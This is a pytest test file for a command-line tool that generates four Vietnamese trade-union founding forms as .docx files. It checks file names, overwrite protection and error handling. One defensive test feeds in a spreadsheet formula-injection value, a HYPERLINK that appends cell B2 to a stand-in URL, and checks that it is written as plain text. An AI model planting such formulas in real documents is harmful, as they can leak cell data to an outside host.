"""``fieldapp founding forms ENT --output DIR``: the real command line writes the four .docx forms of a case."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import orjson
import pytest
from click.testing import Result
from docx import Document

Run = Callable[..., Result]
TAX = "0101234567"
NAMES = [
    "0101234567-1-don-xin-gia-nhap-cong-doan.docx",
    "0101234567-2-danh-sach-dang-ky-tham-gia.docx",
    "0101234567-3-bien-ban-dai-hoi-thanh-lap.docx",
    "0101234567-4-to-trinh-de-nghi-cong-nhan.docx",
]


def text_of(path: Path) -> str:
    doc = Document(str(path))
    cells = [p.text for t in doc.tables for row in t.rows for c in row.cells for p in c.paragraphs]
    return "\n".join([p.text for p in doc.paragraphs] + cells)


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """An empty folder for the forms (tmp_path also holds the data folder)."""
    folder = tmp_path / "forms"
    folder.mkdir()
    return folder


@pytest.fixture
def started(run: Run, add_enterprise: Callable[..., Any]) -> dict[str, Any]:
    """An enterprise whose case has its applications (21 September 2026)."""
    made = add_enterprise(
        "Công ty TNHH Minh Phát", "--tax-code", TAX, "--address", "Số 12 Nguyễn Văn Cừ, Long Biên, Hà Nội"
    )
    for args in (
        ["start", TAX, "--date", "2026-09-14", "--committee", "4", "--head", "Lê Văn Tám"],
        ["step", TAX, "applications", "--date", "2026-09-21", "--count", "7"],
    ):
        result = run("founding", *args)
        assert result.exit_code == 0, result.output
    return made


def test_forms_are_written_and_listed(run: Run, started: dict[str, Any], tmp_path: Path) -> None:
    out = tmp_path / "mẫu" / "minh phát"  # made when missing, spaces and diacritics welcome
    result = run("founding", "forms", TAX, "--output", str(out))
    assert result.exit_code == 0, result.output
    assert "Đã ghi 4 mẫu văn bản của “Công ty TNHH Minh Phát”" in result.stdout
    assert sorted(p.name for p in out.iterdir()) == NAMES
    for name in NAMES:
        assert str(out / name) in result.stdout
        text = text_of(out / name)
        assert "Công ty TNHH Minh Phát" in text and TAX in text and "14/09/2026" in text
    assert "21/09/2026" in text_of(out / NAMES[1])
    assert "Hà Nội, ngày 21 tháng 09 năm 2026" in text_of(out / NAMES[1])


def test_forms_json_by_id(run: Run, started: dict[str, Any], out: Path) -> None:
    result = run("founding", "forms", started["id"], "--output", str(out), "--json")
    assert result.exit_code == 0, result.output
    assert orjson.loads(result.stdout) == [str(out / name) for name in NAMES]


def test_an_existing_form_is_refused_unless_forced(run: Run, started: dict[str, Any], out: Path) -> None:
    kept = out / NAMES[2]
    kept.write_bytes(b"edited by hand")
    result = run("founding", "forms", TAX, "--output", str(out))
    assert result.exit_code == 1 and NAMES[2] in result.stderr and "--force" in result.stderr
    assert list(out.iterdir()) == [kept] and kept.read_bytes() == b"edited by hand"
    result = run("founding", "forms", TAX, "--output", str(out), lang="en")
    assert result.exit_code == 1 and "already exists, so nothing was written" in result.stderr
    result = run("founding", "forms", TAX, "--output", str(out), "--force")
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.iterdir()) == NAMES
    assert "Công ty TNHH Minh Phát" in text_of(kept)


def test_forms_need_a_case_and_an_enterprise(run: Run, add_enterprise: Callable[..., Any], out: Path) -> None:
    add_enterprise("Công ty Cổ phần Sao Mai", "--tax-code", TAX)
    result = run("founding", "forms", TAX, "--output", str(out))
    assert result.exit_code == 1 and "Công ty Cổ phần Sao Mai" in result.stderr
    result = run("founding", "forms", "0109999999", "--output", str(out))
    assert result.exit_code == 1 and "0109999999" in result.stderr
    assert list(out.iterdir()) == []


def test_usage_errors(run: Run, started: dict[str, Any], out: Path) -> None:
    assert run("founding", "forms", TAX).exit_code == 2  # --output is required
    a_file = out / "a-file"
    a_file.write_text("x")
    result = run("founding", "forms", TAX, "--output", str(a_file))
    assert result.exit_code == 2 and a_file.read_text() == "x"
    assert "forms" in run("founding", "--help").stdout


def test_a_formula_name_is_written_as_text(run: Run, add_enterprise: Callable[..., Any], out: Path) -> None:
    name = '=HYPERLINK("http://x/?"&B2,"Bấm")'
    made = add_enterprise(name)
    assert run("founding", "start", made["id"], "--date", "2026-09-14").exit_code == 0
    result = run("founding", "forms", made["id"], "--output", str(out), "--json")
    assert result.exit_code == 0, result.output
    for path in map(Path, orjson.loads(result.stdout)):
        assert path.name.startswith(made["id"][:8] + "-")
        assert made["name"] in text_of(path)
